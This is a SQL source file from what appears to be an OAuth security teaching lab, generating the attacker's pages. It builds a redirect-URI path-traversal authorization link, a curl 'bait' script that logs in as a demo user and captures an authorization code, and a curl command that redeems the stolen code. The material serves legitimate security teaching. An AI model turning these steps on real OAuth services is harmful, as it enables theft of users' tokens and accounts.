-- The attacker's own pages.  (Why a statement reads views and writes JSON: see the head of flow/flow.sql.)

-- local: trap_secrets
-- needs: @fingerprint_key
-- gives: trap_verifier trap_challenge trap_state
-- The attacker begins the authorization request, so PKCE binds the code to the attacker: RFC 9700 section 4.1.1.  The verifier is always the
-- same, so that the page where the code lands can say it.
WITH made AS MATERIALIZED (
  SELECT token_derive(@fingerprint_key, 'verifier of the attacker') AS verifier)
SELECT verifier AS trap_verifier, pkce_challenge(verifier) AS trap_challenge, token_random(16) AS trap_state
  FROM made;

-- name: trap_page
-- needs: @issuer @trap_state @trap_challenge $mount
-- gives: model
-- Lab 10: an address that begins with one of demo-cli's and climbs out of it.  Lab 14: a request of the attacker's own, without a nonce,
-- whose answer stops in the attacker's shell.
WITH place AS (
  SELECT (SELECT redirect_uri FROM client_redirect_uri
           WHERE client_id = 'demo-cli' AND substr(redirect_uri, -length($mount || '/cli/callback')) = $mount || '/cli/callback') AS cli,
         client_url FROM program_place)
SELECT json_object(
  'link', @issuer || '/authorize?response_type=code&client_id=demo-cli&redirect_uri=' || cli || '/../../attacker/code'
          || '&scope=openid+notes:read&state=' || @trap_state || '&code_challenge=' || @trap_challenge || '&code_challenge_method=S256',
  'bait', 'JAR=$(mktemp)' || char(10)
          || 'send() { curl -s -c $JAR -b $JAR -o $JAR.page -w ''%{redirect_url}'' "$@"; }' || char(10)
          || 'field() { sed -n ''s/.*name="''"$1"''" value="\([^"]*\)".*/\1/p'' $JAR.page | head -n 1; }' || char(10)
          || 'send -L "' || @issuer || '/authorize?response_type=code&client_id=notes-web&redirect_uri=' || client_url
          || 'callback&scope=openid+profile+notes:read&state=' || @trap_state || '&code_challenge=' || @trap_challenge
          || '&code_challenge_method=S256"' || char(10)
          || 'BAIT=$(send ' || @issuer || '/login -d request=$(field request) -d csrf=$(field csrf) -d username=bob -d password=builder)' || char(10)
          || 'case $BAIT in *consent*) send "$BAIT"; '
          || 'BAIT=$(send ' || @issuer || '/consent -d request=$(field request) -d csrf=$(field csrf) -d allow=1);; esac' || char(10)
          || 'echo "$BAIT"',
  'evil', client_url || 'login?client_app_id=notes-web-at-evil',
  'held', (SELECT json_group_array(json_object('tag', tag, 'class', lower(tag), 'short', short, 'since', since))
             FROM (SELECT y.tag, substr(t.fingerprint, 1, 4) AS short, strftime('%H:%M:%S', min(e.at), 'unixepoch') AS since
                     FROM (SELECT event_id, at FROM flow_event WHERE actor_to = 'attacker' ORDER BY event_id DESC LIMIT 50) AS e
                     JOIN flow_token AS t ON t.event_id = e.event_id
                     JOIN flow_token_type AS y ON y.type = t.type
                    GROUP BY y.tag, t.fingerprint
                    ORDER BY min(e.event_id) DESC)),
  'sql', 'SELECT token, since FROM token_holder WHERE holder = ''attacker'';') AS model
  FROM place;

-- local: trap_answer
-- needs: @fingerprint_key :state :code
-- gives: event_to detail code_malformed
SELECT 'attacker' AS event_to, json_object('state', token_fingerprint(@fingerprint_key, :state)) AS detail,
       CASE WHEN :code GLOB '*[^A-Za-z0-9._~-]*' THEN 1 ELSE 0 END AS code_malformed;

-- local: trap_code_presented
-- needs: @fingerprint_key :code
-- gives: role type fingerprint place
SELECT 'presented' AS role, 'code' AS type, token_fingerprint(@fingerprint_key, :code) AS fingerprint, 'query' AS place;

-- name: trap_code_page
-- needs: @fingerprint_key @issuer @trap_verifier :code :error $mount
-- gives: model
-- RFC 6749 section 4.1.3: the redirect URI as it was sent, the attacker's verifier, and no secret, for demo-cli has none.
SELECT json_object(
  'code', :code, 'short', substr(token_fingerprint(@fingerprint_key, :code), 1, 4), 'error', :error,
  'redeem', 'curl -s ' || @issuer || '/token -d grant_type=authorization_code -d client_id=demo-cli \' || char(10)
            || '  -d redirect_uri=' || (SELECT redirect_uri FROM client_redirect_uri
                                         WHERE client_id = 'demo-cli'
                                           AND substr(redirect_uri, -length($mount || '/cli/callback')) = $mount || '/cli/callback')
            || '/../../attacker/code \' || char(10)
            || '  -d code=' || :code || ' -d code_verifier=' || @trap_verifier,
  'sql', 'SELECT token, time, actor_from, actor_to, place FROM token_journey WHERE type = ''code'' ORDER BY event_id DESC;') AS model;
